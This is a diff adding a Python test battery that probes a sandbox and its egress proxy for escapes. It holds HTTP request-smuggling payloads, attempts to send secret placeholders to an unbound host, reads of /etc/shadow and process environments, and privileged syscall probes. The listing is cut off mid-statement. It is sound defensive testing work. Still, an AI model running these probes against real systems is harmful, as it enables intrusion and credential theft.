@@ -1,0 +1,1021 @@
+#!/usr/bin/python3
+"""The escape battery: one program that tries each attack from INSIDE
+`airlock sandbox-exec` (and, with --outside, runs the positive controls that must be run
+on the host as root: the same probe, with harmless arguments, showing that it works there).
+
+    battery.py CONFIG.json            inside: every attack, and the controls done inside
+    battery.py --outside CONFIG.json  outside: the controls done outside
+
+One line per case: `NAME RESULT DETAIL`. Inside, RESULT is BLOCKED (the attack failed and,
+for a control done inside, the control worked), OPEN (the attack worked: a hole),
+or NOCONTROL (the probe could not be shown to work, so "blocked" would prove nothing).
+Outside, RESULT is CONTROL and DETAIL starts with what the probe got there; the test
+compares it with what it got inside (a seccomp case is shown by a different answer).
+Everything an attack received is appended to CONFIG["received"] (a read-write file), so
+the test can look for real secret values in all of it without the program knowing them.
+
+Only the standard library: /usr/bin/python3 is on every test machine; raw system calls
+go through ctypes.
+"""
+import base64
+import ctypes
+import errno
+import json
+import os
+import pty
+import socket
+import ssl
+import struct
+import sys
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+PH = "openshell:resolve:env:"
+CASES = []           # (name, attack, control, where): where is "in" or "out"
+RECEIVED = None
+
+
+def case(name, where="in", control=None):
+    def add(fn):
+        CASES.append((name, fn, control, where))
+        return fn
+    return add
+
+
+def received(data):
+    """Keeps every byte an attack got, for the test's search for real values."""
+    if RECEIVED and data:
+        with open(RECEIVED, "ab") as f:
+            f.write(data if isinstance(data, bytes) else data.encode("utf-8", "replace"))
+            f.write(b"\n")
+
+
+def err(e):
+    return errno.errorcode.get(e.errno, str(e.errno)) if getattr(e, "errno", None) else repr(e)
+
+
+def sys_call(nr, *args):
+    """A raw system call: returns the result or -errno name (a string)."""
+    ctypes.set_errno(0)
+    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a
+                                           for a in args])
+    if r == -1:
+        return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
+    return r
+
+
+def in_child(fn, timeout=10):
+    """Runs fn() in a forked child (so a probe that works changes nothing here);
+    returns the string it returned."""
+    rd, wr = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(rd)
+        try:
+            out = str(fn())
+        except BaseException as e:  # noqa: BLE001 - the child reports anything
+            out = "raised " + repr(e)
+        os.write(wr, out.encode()[:4000])
+        os._exit(0)
+    os.close(wr)
+    out = b""
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        chunk = os.read(rd, 4096)
+        if not chunk:
+            break
+        out += chunk
+    os.close(rd)
+    os.waitpid(pid, 0)
+    return out.decode("utf-8", "replace")
+
+
+# --- system-call numbers (x86_64) -------------------------------------------------------
+NR = dict(ptrace=101, process_vm_readv=310, unshare=272, clone=56, clone3=435,
+          io_uring_setup=425, bpf=321, perf_event_open=298, keyctl=250, add_key=248,
+          userfaultfd=323, personality=135, mount=165, umount2=166, chroot=161,
+          pivot_root=155, kexec_load=246, kexec_file_load=320, init_module=175,
+          finit_module=313, delete_module=176, fanotify_init=300, setns=308,
+          open_by_handle_at=304, name_to_handle_at=303, mknod=133, setuid=105,
+          move_mount=429, fsopen=430, open_tree=428)
+CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
+SIGCHLD = 17
+
+
+# A probe's answer must not be the one the sandbox gives: the outside control shows the
+# same call reaches the kernel and gets another answer (success or an argument error).
+def denied(r):
+    return isinstance(r, str) and r in ("EPERM", "EACCES", "ENOSYS")
+
+
+def syscase(name, nr_name, *args, ok=denied, child=False):
+    """A case for one system call that seccomp (or the lack of privilege) must refuse;
+    the control is the same call outside, as root."""
+    def probe():
+        if child:
+            return in_child(lambda: sys_call(NR[nr_name], *args))
+        return str(sys_call(NR[nr_name], *args))
+
+    def attack():
+        r = probe()
+        return denied(r), "%s -> %s" % (nr_name, r)
+
+    def control():
+        r = probe()
+        return not denied(r), "%s -> %s" % (nr_name, r)
+    CASES.append((name, attack, control, "out"))
+
+
+def strs(*words):
+    return [ctypes.c_char_p(w.encode()) for w in words]
+
+
+CFG = {}
+
+
+# --- network ------------------------------------------------------------------------------
+
+def tcp(addr, port, family=socket.AF_INET, timeout=3):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(timeout)
+    try:
+        s.connect((addr, port))
+        s.sendall(b"hello from %s\n" % CFG["where"].encode())
+        data = s.recv(100)
+        received(data)
+        return True, "connected, got %r" % data[:40]
+    except OSError as e:
+        return False, err(e)
+    finally:
+        s.close()
+
+
+def udp(addr, port, family=socket.AF_INET, payload=None):
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    try:
+        s.sendto(payload or b"udp from %s" % CFG["where"].encode(), (addr, port))
+        data = s.recv(512)
+        received(data)
+        return True, "answered %r" % data[:40]
+    except OSError as e:
+        return False, err(e)
+    finally:
+        s.close()
+
+
+def netcase(name, fn):
+    """A network probe: blocked when it fails inside; the control is the same outside."""
+    def attack():
+        ok, detail = fn()
+        return not ok, detail
+
+    def control():
+        ok, detail = fn()
+        return ok, detail
+    CASES.append((name, attack, control, "out"))
+
+
+netcase("tcp-loopback-port-not-forwarded", lambda: tcp("127.0.0.1", CFG["tcp_port"]))
+netcase("udp-loopback-port", lambda: udp("127.0.0.1", CFG["udp_port"]))
+netcase("tcp-host-address", lambda: tcp(CFG["host_ip"], CFG["tcp_any_port"]))
+netcase("udp-host-address", lambda: udp(CFG["host_ip"], CFG["udp_any_port"]))
+netcase("tcp-ipv6-loopback", lambda: tcp("::1", CFG["tcp6_port"], socket.AF_INET6))
+netcase("udp-ipv6-loopback", lambda: udp("::1", CFG["udp6_port"], socket.AF_INET6))
+
+
+def dns_query(name="example.com"):
+    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\0" + struct.pack(">HH", 1, 1)
+
+
+netcase("dns-query-udp-to-resolver",
+        lambda: udp("127.0.0.1", CFG["dns_port"], payload=dns_query()))
+
+
+def dns_tcp():
+    s = socket.socket()
+    s.settimeout(3)
+    try:
+        s.connect(("127.0.0.1", CFG["dns_port"]))
+        q = dns_query()
+        s.sendall(struct.pack(">H", len(q)) + q)
+        data = s.recv(512)
+        received(data)
+        return bool(data), "answered %d bytes" % len(data)
+    except OSError as e:
+        return False, err(e)
+    finally:
+        s.close()
+
+
+netcase("dns-query-tcp-to-resolver", dns_tcp)
+
+
+@case("dns-lookup-of-a-name", control=lambda: (socket.getaddrinfo("localhost", 80) != [],
+                                               "localhost from /etc/hosts resolves"))
+def _():
+    try:
+        r = socket.getaddrinfo("example.com", 443)
+        return False, "resolved %r" % (r[:1],)
+    except socket.gaierror as e:
+        return True, "getaddrinfo: %s" % e
+
+
+def sock(family, stype, proto=0):
+    try:
+        s = socket.socket(family, stype, proto)
+        s.close()
+        return True, "socket made"
+    except OSError as e:
+        return False, err(e)
+
+
+netcase("raw-ip-socket", lambda: sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
+netcase("raw-ipv6-socket", lambda: sock(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
+netcase("packet-socket", lambda: sock(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
+netcase("netlink-route-socket", lambda: sock(socket.AF_NETLINK, socket.SOCK_RAW, 0))
+netcase("netlink-uevent-socket", lambda: sock(socket.AF_NETLINK, socket.SOCK_DGRAM, 15))
+netcase("alg-socket", lambda: sock(38, socket.SOCK_SEQPACKET, 0))
+
+
+def unix(path):
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.settimeout(3)
+    try:
+        s.connect(path)
+        data = s.recv(100)
+        received(data)
+        return True, "connected, got %r" % data[:40]
+    except OSError as e:
+        return False, err(e)
+    finally:
+        s.close()
+
+
+netcase("abstract-unix-socket-of-host", lambda: unix("\0" + CFG["abstract"]))
+netcase("unix-socket-in-host-tmp", lambda: unix(CFG["unix_tmp"]))
+netcase("unix-socket-in-host-run", lambda: unix(CFG["unix_run"]))
+netcase("unix-socket-in-host-var-tmp", lambda: unix(CFG["unix_var_tmp"]))
+
+
+# --- the proxy --------------------------------------------------------------------------
+
+PROXY = ("127.0.0.1", 3128)
+
+
+def proxy_connect(target, extra=""):
+    """CONNECT target through the proxy: (status, socket or None, head)."""
+    s = socket.create_connection(PROXY, timeout=10)
+    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, target, extra)).encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        c = s.recv(4096)
+        if not c:
+            break
+        head += c
+    received(head)
+    status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else 0
+    if status != 200:
+        s.close()
+        return status, None, head
+    return status, s, head
+
+
+def tls_to(host, port=443, sni=None):
+    status, s, head = proxy_connect("%s:%d" % (host, port))
+    if status != 200:
+        raise OSError("CONNECT %s: %s" % (host, head[:80]))
+    ctx = ssl.create_default_context(cafile="/run/airlock/ca.pem")
+    ctx.check_hostname = False
+    return ctx.wrap_socket(s, server_hostname=sni or host)
+
+
+def read_all(s, limit=1 << 16):
+    out = b""
+    try:
+        while len(out) < limit:
+            c = s.recv(65536)
+            if not c:
+                break
+            out += c
+    except (OSError, ssl.SSLError):
+        pass
+    received(out)
+    return out
+
+
+def exchange(raw, host="api.example.test"):
+    """Sends raw bytes inside a TLS tunnel to host; returns what came back (the
+    connection is closed after 'Connection: close' or by the proxy)."""
+    t = tls_to(host)
+    t.settimeout(8)
+    t.sendall(raw)
+    return read_all(t)
+
+
+def status_of(resp):
+    try:
+        return int(resp.split(b" ", 2)[1])
+    except (IndexError, ValueError):
+        return 0
+
+
+def good_request(host="api.example.test", path="/echo"):
+    return ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode()
+
+
+def control_api_ok():
+    r = exchange(good_request())
+    return status_of(r) == 200, "CONNECT api.example.test + GET /echo -> %d" % status_of(r)
+
+
+def control_injected():
+    r = exchange(("GET /echo HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Bearer "
+                  "%sTOKEN\r\nConnection: close\r\n\r\n" % PH).encode())
+    ok = status_of(r) == 200 and b"<REAL:TOKEN>" in r
+    return ok, "placeholder to its bound host is injected (%d)" % status_of(r)
+
+
+def connect_refused(target):
+    def attack():
+        status, s, head = proxy_connect(target)
+        if s:
+            s.close()
+        return status == 403, "CONNECT %s -> %d %s" % (target, status, deny_reason(head))
+    return attack
+
+
+def deny_reason(head):
+    for line in head.split(b"\r\n"):
+        if line.lower().startswith(b"x-airlock-deny:"):
+            return line.split(b":", 1)[1].strip().decode("utf-8", "replace")
+    return ""
+
+
+def connect_ok():
+    status, s, _ = proxy_connect("api.example.test:443")
+    if s:
+        s.close()
+    return status == 200, "CONNECT api.example.test:443 -> %d" % status
+
+
+case("proxy-connect-ip-literal", control=connect_ok)(
+    lambda: connect_refused("127.0.0.1:%d" % CFG["api_port"])())
+case("proxy-connect-ipv6-literal", control=connect_ok)(
+    lambda: connect_refused("[::1]:%d" % CFG["api_port"])())
+case("proxy-connect-localhost", control=connect_ok)(
+    lambda: connect_refused("localhost:%d" % CFG["api_port"])())
+case("proxy-connect-denied-name", control=connect_ok)(
+    lambda: connect_refused("denied.example.test:443")())
+case("proxy-connect-allowed-name-other-port", control=connect_ok)(
+    lambda: connect_refused("api.example.test:%d" % CFG["api_port"])())
+
+
+@case("proxy-absolute-http-to-denied-name", control=connect_ok)
+def _():
+    s = socket.create_connection(PROXY, timeout=10)
+    s.sendall(b"GET http://denied.example.test/ HTTP/1.1\r\nHost: denied.example.test\r\n"
+              b"Connection: close\r\n\r\n")
+    r = read_all(s)
+    s.close()
+    return status_of(r) == 403, "GET http://denied.example.test/ -> %d" % status_of(r)
+
+
+@case("proxy-host-header-names-another-host", control=control_api_ok)
+def _():
+    r = exchange(good_request(host="other.example.test"))
+    return status_of(r) == 403, "Host: other.example.test in api tunnel -> %d" % status_of(r)
+
+
+@case("proxy-sni-names-another-host", control=control_api_ok)
+def _():
+    try:
+        t = tls_to("api.example.test", sni="other.example.test")
+        t.sendall(good_request(host="other.example.test"))
+        r = read_all(t)
+        return status_of(r) not in range(200, 300), "handshake done, answer %d" % status_of(r)
+    except (OSError, ssl.SSLError) as e:
+        return True, "handshake refused: %s" % str(e)[:80]
+
+
+SMUGGLED = ("GET /smuggled HTTP/1.1\r\nHost: other.example.test\r\nX-K: %sTOKEN\r\n\r\n" % PH)
+
+
+def smuggle(head_lines, body):
+    head = "POST /first HTTP/1.1\r\nHost: api.example.test\r\n" + head_lines
+    return (head + "\r\n" + body).encode()
+
+
+def smuggle_case(name, raw):
+    """A request framed so that a second request could hide in it; blocked when the
+    proxy refuses it (4xx) or the upstream saw one request only and nothing hidden
+    (the test checks the recorder for /smuggled)."""
+    def attack():
+        r = exchange(raw)
+        st = status_of(r)
+        return (400 <= st < 500 or st == 0) and b"/smuggled" not in r, \
+            "-> %d %s" % (st, r.split(b"\r\n", 1)[0][:60].decode("latin-1"))
+    CASES.append((name, attack, control_api_ok, "in"))
+
+
+n = len(SMUGGLED)
+chunked = "%x\r\n%s\r\n0\r\n\r\n" % (n, SMUGGLED)
+smuggle_case("smuggle-content-length-and-transfer-encoding",
+             smuggle("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", chunked))
+smuggle_case("smuggle-two-content-lengths",
+             smuggle("Content-Length: 0\r\nContent-Length: %d\r\n" % n, SMUGGLED))
+smuggle_case("smuggle-obs-fold-transfer-encoding",
+             smuggle("Content-Length: %d\r\nX-A: b\r\n Transfer-Encoding: chunked\r\n" % len(chunked),
+                     chunked))
+smuggle_case("smuggle-bare-lf-in-head",
+             ("POST /first HTTP/1.1\r\nHost: api.example.test\nContent-Length: 0\r\n"
+              "Transfer-Encoding: chunked\r\n\r\n" + chunked).encode())
+smuggle_case("smuggle-space-before-colon",
+             smuggle("Content-Length: %d\r\nTransfer-Encoding : chunked\r\n" % n, SMUGGLED))
+smuggle_case("smuggle-transfer-encoding-not-chunked-last",
+             smuggle("Transfer-Encoding: chunked, identity\r\n", chunked))
+smuggle_case("smuggle-chunk-size-overflow",
+             smuggle("Transfer-Encoding: chunked\r\n",
+                     "10000000000000001\r\n" + SMUGGLED + "\r\n0\r\n\r\n"))
+smuggle_case("smuggle-connection-names-content-length",
+             smuggle("Connection: Content-Length\r\nContent-Length: %d\r\n" % n, SMUGGLED))
+
+
+@case("smuggle-pipelined-second-request-to-another-host", control=control_api_ok)
+def _():
+    r = exchange(good_request().replace(b"Connection: close\r\n", b"") + SMUGGLED.encode())
+    second = r.split(b"HTTP/1.1 ")[2:3]
+    st = int(second[0][:3]) if second else 0
+    return st in (0, 400, 403), "second pipelined request -> %s" % (st or "closed")
+
+
+@case("keepalive-second-request-to-another-host", control=control_api_ok)
+def _():
+    t = tls_to("api.example.test")
+    t.settimeout(8)
+    t.sendall(b"GET /echo HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
+    first = t.recv(65536)
+    received(first)
+    t.sendall(SMUGGLED.encode())
+    second = read_all(t)
+    return status_of(first) == 200 and status_of(second) in (0, 400, 403), \
+        "first %d, second -> %d" % (status_of(first), status_of(second))
+
+
+def unbound(name, raw, host="other.example.test"):
+    """A placeholder sent to a host the secret is not bound to: refused (403), and the
+    origin never gets a real value (the test checks its records)."""
+    def attack():
+        r = exchange(raw, host)
+        st = status_of(r)
+        return st == 403 and b"<REAL:" not in r, "-> %d %s" % (st, deny_reason(r))
+    CASES.append((name, attack, control_injected, "in"))
+
+
+def other_req(target="/echo", headers=""):
+    return ("GET %s HTTP/1.1\r\nHost: other.example.test\r\n%sConnection: close\r\n\r\n"
+            % (target, headers)).encode()
+
+
+unbound("placeholder-to-unbound-host-in-target", other_req("/echo?k=%sTOKEN" % PH))
+unbound("placeholder-to-unbound-host-in-header",
+        other_req(headers="Authorization: Bearer %sTOKEN\r\n" % PH))
+unbound("placeholder-to-unbound-host-in-cookie", other_req(headers="Cookie: s=%sTOKEN\r\n" % PH))
+unbound("placeholder-to-unbound-host-in-basic",
+        other_req(headers="Authorization: Basic %s\r\n"
+                  % base64.b64encode(("x:%sTOKEN" % PH).encode()).decode()))
+unbound("placeholder-to-unbound-host-percent-encoded",
+        other_req("/echo?k=" + "".join("%%%02X" % b for b in (PH + "TOKEN").encode())))
+unbound("placeholder-undefined-secret", (
+    "GET /echo HTTP/1.1\r\nHost: api.example.test\r\nX-K: %sNOPE\r\nConnection: close\r\n\r\n"
+    % PH).encode(), host="api.example.test")
+
+
+def forwarded_not_injected(name, raw):
+    """Forms the proxy may pass on as text: blocked when what the origin echoes holds
+    no real value (the echo masks real values as <REAL:NAME>)."""
+    def attack():
+        r = exchange(raw, "other.example.test")
+        return b"<REAL:" not in r, "-> %d, %s" % (
+            status_of(r), "no real value echoed" if b"<REAL:" not in r else "REAL VALUE ECHOED")
+    CASES.append((name, attack, control_injected, "in"))
+
+
+forwarded_not_injected("placeholder-to-unbound-host-double-encoded",
+                       other_req("/echo?k=openshell%253Aresolve%253Aenv%253ATOKEN"))
+body = "k=%sTOKEN" % PH
+forwarded_not_injected("placeholder-to-unbound-host-in-body", (
+    "POST /echo HTTP/1.1\r\nHost: other.example.test\r\nContent-Length: %d\r\n"
+    "Connection: close\r\n\r\n%s" % (len(body), body)).encode())
+
+
+@case("placeholder-in-proxy-authorization-of-connect", control=connect_ok)
+def _():
+    status, s, head = proxy_connect("other.example.test:443",
+                                    "Proxy-Authorization: Basic %s\r\n"
+                                    % base64.b64encode(("u:%sTOKEN" % PH).encode()).decode())
+    if s:
+        s.close()
+    return status == 403, "-> %d %s" % (status, deny_reason(head))
+
+
+@case("bound-host-echoing-the-secret-in-its-head", control=control_injected)
+def _():
+    r = exchange(("GET /echo-auth HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Bearer "
+                  "%sTOKEN\r\nConnection: close\r\n\r\n" % PH).encode())
+    return status_of(r) == 200 and (PH + "TOKEN").encode() in r, \
+        "-> %d, head gives the placeholder back" % status_of(r)
+
+
+@case("huge-request-head", control=control_api_ok)
+def _():
+    r = exchange(("GET /echo HTTP/1.1\r\nHost: api.example.test\r\nX-Big: %s\r\n"
+                  "Connection: close\r\n\r\n" % ("a" * 40000)).encode())
+    ok, detail = control_api_ok()
+    return status_of(r) in (0, 400, 431) and ok, "-> %d; proxy afterwards: %s" % (
+        status_of(r), detail)
+
+
+# --- processes -------------------------------------------------------------------------
+
+def sleeper():
+    pid = os.fork()
+    if pid == 0:
+        time.sleep(30)
+        os._exit(0)
+    return pid
+
+
+def reap(pid):
+    os.kill(pid, 9)
+    os.waitpid(pid, 0)
+
+
+def ptrace_attach():
+    pid = sleeper()
+    try:
+        return str(sys_call(NR["ptrace"], 16, pid, 0, 0))  # PTRACE_ATTACH
+    finally:
+        reap(pid)
+
+
+CASES.append(("ptrace-attach", lambda: (denied(ptrace_attach()), "PTRACE_ATTACH -> %s"
+                                        % ptrace_attach()), lambda: (lambda r: (not denied(r), r))(ptrace_attach()), "out"))
+syscase("ptrace-traceme", "ptrace", 0, 0, 0, 0, child=True)
+
+
+def vm_readv():
+    pid = sleeper()
+    try:
+        buf = ctypes.create_string_buffer(16)
+        src = ctypes.create_string_buffer(b"x" * 16)
+        local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 16)
+        remote = (ctypes.c_void_p * 2)(ctypes.addressof(src), 16)
+        return str(sys_call(NR["process_vm_readv"], pid, local, 1, remote, 1, 0))
+    finally:
+        reap(pid)
+
+
+CASES.append(("process-vm-readv", lambda: (denied(vm_readv()), "-> %s" % vm_readv()),
+              lambda: (lambda r: (not denied(r), r))(vm_readv()), "out"))
+
+
+def pids():
+    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
+
+
+def read_proc(pid, what):
+    try:
+        with open("/proc/%d/%s" % (pid, what), "rb") as f:
+            data = f.read(1 << 16)
+        received(data)
+        return True, len(data)
+    except OSError as e:
+        return False, err(e)
+
+
+@case("proc-environ-of-every-visible-process",
+      control=lambda: (read_proc(os.getpid(), "environ")[0], "own environ readable"))
+def _():
+    res = {p: read_proc(p, "environ") for p in pids() if p != os.getpid()}
+    # Readable ones went to the received file: the test looks there for real values.
+    return True, "pids %s: %s (contents checked by the test)" % (
+        pids(), {p: r[1] for p, r in res.items()})
+
+
+def mem_of(pid):
+    try:
+        fd = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
+    except OSError as e:
+        return False, err(e)
+    try:
+        with open("/proc/%d/maps" % pid) as f:
+            start = int(f.readline().split("-")[0], 16)
+        data = os.pread(fd, 64, start)
+        received(data)
+        return True, "read %d bytes" % len(data)
+    except (OSError, ValueError) as e:
+        return False, err(e)
+    finally:
+        os.close(fd)
+
+
+@case("proc-mem-of-every-other-visible-process",
+      control=lambda: mem_of(os.getpid()))
+def _():
+    res = {p: mem_of(p) for p in pids() if p not in (os.getpid(),)}
+    # Our own children are ours to read; anything else (PID 1, the reaper) must not be.
+    others = {p: r for p, r in res.items() if p == 1}
+    return all(not r[0] for r in others.values()) and 1 in res, "pid 1: %s; visible %s" % (
+        others, pids())
+
+
+@case("supervisor-not-visible", where="in",
+      control=lambda: (len(pids()) >= 1, "/proc lists %s" % pids()))
+def _():
+    names = []
+    for p in pids():
+        try:
+            with open("/proc/%d/cmdline" % p, "rb") as f:
+                names.append(f.read().replace(b"\0", b" ").decode("utf-8", "replace")[:60])
+        except OSError:
+            pass
+    received("\n".join(names))
+    return not any("sandbox-exec" in n for n in names) and CFG["host_pid"] not in pids(), \
+        "cmdlines %s" % names
+
+
+def kill_host(sig):
+    try:
+        os.kill(CFG["host_pid"], sig)
+        return True, "signal %d delivered to pid %d" % (sig, CFG["host_pid"])
+    except OSError as e:
+        return False, err(e)
+
+
+netcase("signal-a-host-process", lambda: kill_host(0))
+CASES.append(("kill-a-host-process", lambda: (not kill_host(15)[0], kill_host(15)[1]),
+              lambda: kill_host(0), "out"))
+
+syscase("unshare-user-namespace", "unshare", CLONE_NEWUSER, child=True)
+syscase("unshare-network-namespace", "unshare", CLONE_NEWNET, child=True)
+syscase("unshare-mount-namespace", "unshare", CLONE_NEWNS, child=True)
+
+
+def clone_flags(flags):
+    def run():
+        r = sys_call(NR["clone"], flags | SIGCHLD, 0, 0, 0, 0)
+        if r == 0:
+            os._exit(0)
+        if isinstance(r, int):
+            os.waitpid(r, 0)
+            return "child %d" % r
+        return r
+    return run
+
+
+for nm, fl in (("user", CLONE_NEWUSER), ("net", CLONE_NEWNET), ("pid", CLONE_NEWPID)):
+    fn = clone_flags(fl)
+    CASES.append(("clone-new-%s-namespace" % nm,
+                  (lambda fn=fn: (lambda r: (denied(r), "clone -> %s" % r))(in_child(fn))),
+                  (lambda fn=fn: (lambda r: (not denied(r), r))(in_child(fn))), "out"))
+
+# clone3 with a too-small size: the kernel answers EINVAL, the filter ENOSYS first.
+syscase("clone3", "clone3", ctypes.create_string_buffer(64), 8)
+syscase("io-uring-setup", "io_uring_setup", 1, ctypes.create_string_buffer(120))
+syscase("bpf-map-create", "bpf", 0, ctypes.create_string_buffer(128), 128)
+syscase("perf-event-open", "perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)
+syscase("keyctl", "keyctl", 0, -3, 0)          # KEYCTL_GET_KEYRING_ID session, no create
+syscase("add-key", "add_key", *strs("user", "escape"), ctypes.c_char_p(b"x"), 1, -2, child=True)
+syscase("userfaultfd", "userfaultfd", 0)
+syscase("personality-read-implies-exec", "personality", 0x0400000, child=True)
+syscase("mount-tmpfs", "mount", *strs("none", "/nonexistent-escape", "tmpfs"), 0, 0)
+syscase("umount", "umount2", ctypes.c_char_p(b"/nonexistent-escape"), 2)
+syscase("fsopen", "fsopen", ctypes.c_char_p(b"tmpfs"), 0, child=True)
+syscase("open-tree", "open_tree", -100, ctypes.c_char_p(b"/nonexistent-escape"), 1)
+syscase("chroot", "chroot", ctypes.c_char_p(b"/"), child=True)
+syscase("pivot-root", "pivot_root", *strs("/nonexistent-escape", "/nonexistent-escape"))
+syscase("kexec-load", "kexec_load", 0, 0, 0, 0xffffffff)
+syscase("kexec-file-load", "kexec_file_load", -1, -1, 0, 0, 0xffffffff)
+syscase("init-module", "init_module", 0, 0, ctypes.c_char_p(b""))
+syscase("finit-module", "finit_module", -1, ctypes.c_char_p(b""), 0)
+syscase("delete-module", "delete_module", ctypes.c_char_p(b"nonexistent_escape"), 0o4000)
+syscase("fanotify-init", "fanotify_init", 0, 0, child=True)
+syscase("setuid-root", "setuid", 0, child=True)
+
+
+def setns_net():
+    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
+    try:
+        return sys_call(NR["setns"], fd, CLONE_NEWNET)
+    finally:
+        os.close(fd)
+
+
+CASES.append(("setns", lambda: (lambda r: (denied(r), "setns -> %s" % r))(in_child(setns_net)),
+              lambda: (lambda r: (not denied(r), r))(in_child(setns_net)), "out"))
+
+
+def pty_ioctl(req):
+    import fcntl
+    master, slave = pty.openpty()
+    try:
+        fcntl.ioctl(slave, req, b"x")
+        return "0"
+    except OSError as e:
+        return err(e)
+    finally:
+        os.close(master)
+        os.close(slave)
+
+
+CASES.append(("tiocsti-on-a-terminal", lambda: (lambda r: (denied(r), "TIOCSTI -> %s" % r))(
+    pty_ioctl(0x5412)), lambda: (lambda r: (not denied(r), r))(pty_ioctl(0x5412)), "out"))
+CASES.append(("tioclinux-on-a-terminal", lambda: (lambda r: (denied(r), "TIOCLINUX -> %s" % r))(
+    pty_ioctl(0x541C)), lambda: (lambda r: (not denied(r), r))(pty_ioctl(0x541C)), "out"))
+
+
+def run_setuid():
+    import subprocess
+    r = subprocess.run([CFG["suid_id"], "-u"], capture_output=True, text=True, timeout=10)
+    return r.stdout.strip()
+
+
+def run_setuid_as_nobody():
+    def child():
+        os.setgroups([])
+        os.setgid(65534)
+        os.setuid(65534)
+        return run_setuid()
+    return in_child(child)
+
+
+CASES.append(("setuid-binary-gains-nothing",
+              lambda: (lambda u: (u != "0", "setuid-root id -u printed %s" % u))(run_setuid()),
+              lambda: (lambda u: (u == "0", "as 65534 outside it printed %s" % u))(
+                  run_setuid_as_nobody()), "out"))
+
+
+# --- files ------------------------------------------------------------------------------
+
+def read_file(path):
+    try:
+        with open(path, "rb") as f:
+            data = f.read(1 << 16)
+        received(data)
+        return True, data
+    except OSError as e:
+        return False, err(e)
+
+
+@case("secret-file-holds-only-the-placeholder", where="out")
+def _():
+    ok, data = read_file(CFG["secret_file"])
+    return ok and data.strip() == (PH + "FILETOK").encode(), "reads %r" % (
+        data[:40] if ok else data)
+
+
+CASES[-1] = CASES[-1][:2] + (lambda: (read_file(CFG["secret_file"])[0],
+                                      "the host file is there (its value stays outside)"), "out")
+
+
+@case("secret-folder-shows-nothing-else", where="out")
+def _():
+    try:
+        names = os.listdir(os.path.dirname(CFG["secret_file"]))
+    except OSError as e:
+        return True, err(e)
+    return CFG["sibling_name"] not in names, "lists %s" % names
+
+
+CASES[-1] = CASES[-1][:2] + (lambda: (CFG["sibling_name"] in os.listdir(
+    os.path.dirname(CFG["secret_file"])), "the sibling is there outside"), "out")
+netcase("secret-sibling-file-read",
+        lambda: (lambda r: (r[0], "read %d bytes" % len(r[1]) if r[0] else r[1]))(
+            read_file(CFG["sibling"])))
+netcase("host-file-outside-policy-read",
+        lambda: (lambda r: (r[0], "read" if r[0] else r[1]))(read_file(CFG["host_only"])))
+netcase("etc-shadow-read", lambda: (lambda r: (r[0], "read" if r[0] else r[1]))(
+    read_file("/etc/shadow")))
+
+
+def write_to(path):
+    try:
+        with open(path, "wb") as f:
+            f.write(b"escape")
+        os.unlink(path)
+        return True, "wrote %s" % path
+    except OSError as e:
+        return False, err(e)
+
+
+def writecase(name, path):
+    """path: a function, as CFG is read only when the cases run."""
+    CASES.append((name, lambda: (lambda r: (not r[0], r[1]))(write_to(path())),
+                  lambda: write_to(os.path.join(CFG["rw"], "ok-" + name)), "in"))
+
+
+writecase("write-into-read-only-tree", lambda: os.path.join(CFG["ro"], "x"))
+writecase("write-into-usr", lambda: "/usr/escape-x")
+writecase("write-into-etc", lambda: "/etc/escape-x")
+writecase("write-into-root", lambda: "/escape-x")
+writecase("write-into-run-airlock", lambda: "/run/airlock/escape-x")
+
+
+def fs_op(fn, *args):
+    try:
+        fn(*args)
+        return True, "done"
+    except OSError as e:
+        return False, err(e)
+
+
+def rw(name):
+    return os.path.join(CFG["rw"], name)
+
+
+def fscase(name, attack, control):
+    CASES.append((name, lambda: (lambda r: (not r[0], r[1]))(attack()), control, "in"))
+
+
+def prep(name, data=b"mine"):
+    with open(rw(name), "wb") as f:
+        f.write(data)
+    return rw(name)
+
+
+fscase("hard-link-out-of-read-only-tree",
+       lambda: fs_op(os.link, CFG["ro_file"], rw("hl")),
+       lambda: fs_op(os.link, prep("a"), rw("a-link")))
+fscase("hard-link-from-rw-into-read-only-tree",
+       lambda: fs_op(os.link, prep("b"), os.path.join(CFG["ro"], "hl")),
+       lambda: fs_op(os.link, prep("b2"), rw("b2-link")))
+
+
+def via_symlink(target):
+    link = rw("sl-%d" % abs(hash(target)))
+    if os.path.lexists(link):
+        os.unlink(link)
+    os.symlink(target, link)
+    return (lambda r: (r[0], "read %s through a link" % target if r[0] else r[1]))(read_file(link))
+
+
+fscase("symlink-to-host-only-file", lambda: via_symlink(CFG["host_only"]),
+       lambda: via_symlink(prep("c")))
+fscase("symlink-to-secret-sibling", lambda: via_symlink(CFG["sibling"]),
+       lambda: via_symlink(prep("c2")))
+fscase("rename-out-of-read-write-tree",
